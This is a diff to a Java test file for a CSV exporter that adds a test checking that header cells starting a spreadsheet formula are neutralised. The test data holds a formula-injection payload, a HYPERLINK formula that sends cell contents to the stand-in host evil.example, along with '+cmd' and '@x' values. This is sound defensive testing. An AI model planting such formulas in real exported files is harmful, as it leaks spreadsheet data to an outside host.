@@ -9,6 +9,8 @@ import com.fasterxml.jackson.databind.MappingIterator;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvSchema;
+import io.github.bilateral.io.ReportReader;
+import io.github.bilateral.io.ReportWriter;
 import io.github.bilateral.io.Reports;
 import io.github.bilateral.model.Actor;
 import io.github.bilateral.model.Report;
@@ -210,6 +212,38 @@ class CsvTablesTest {
       assertThat(CsvTables.flatten(json.getBytes(StandardCharsets.UTF_8), CsvOptions.defaults()))
           .containsExactly(Map.entry("summary", "'" + start + "=1+2"));
     }
+  }
+
+  /** The bundled report with the first actor given unknown fields, as a lenient reader keeps them. */
+  static Report withUnknownFieldsOnFirstActor(String fields) {
+    Report r = Reports.usPakistan2023();
+    String json = ReportWriter.canonical().toJson(r.actors().get(0)).stripTrailing();
+    String extended = json.substring(0, json.length() - 1) + "," + fields + "}";
+    Actor actor = ReportReader.lenient().readFact(Actor.class, extended);
+    List<Actor> actors = new ArrayList<>(r.actors());
+    actors.set(0, actor);
+    return Report.copyOf(r).withActors(actors);
+  }
+
+  @Test
+  void headerCellsThatWouldStartAFormulaAreNeutralisedLikeDataCells() throws Exception {
+    String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")";
+    Report r = withUnknownFieldsOnFirstActor(
+        JSON.writeValueAsString(hyperlink) + ":\"x\",\"+cmd\":\"-2+3\",\"@x\":{\"-y\":\"z\"}");
+    String header = new String(table(r, "actors"), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
+    assertThat(header).startsWith("id,kind,name,").endsWith(
+        ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\",\"'+cmd\",\"'@x.-y\"");
+    List<Map<String, String>> rows = read(table(r, "actors"));
+    assertThat(rows.get(0)).containsEntry("'" + hyperlink, "x").containsEntry("'+cmd", "'-2+3")
+        .containsEntry("'@x.-y", "z");
+    // Exact cells leave the header as the file names its fields, and the known columns never change.
+    ByteArrayOutputStream exact = new ByteArrayOutputStream();
+    Exporter.csvTable(r, "actors", exact, CsvOptions.defaults().withExactCells());
+    String exactHeader = new String(exact.toByteArray(), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
+    assertThat(exactHeader).endsWith(",\"" + hyperlink.replace("\"", "\"\"") + "\",+cmd,@x.-y");
+    String bundled = new String(table(Reports.usPakistan2023(), "actors"), StandardCharsets.UTF_8).lines()
+        .findFirst().orElseThrow();
+    assertThat(header).startsWith(bundled + ",");
   }
 
   @Test
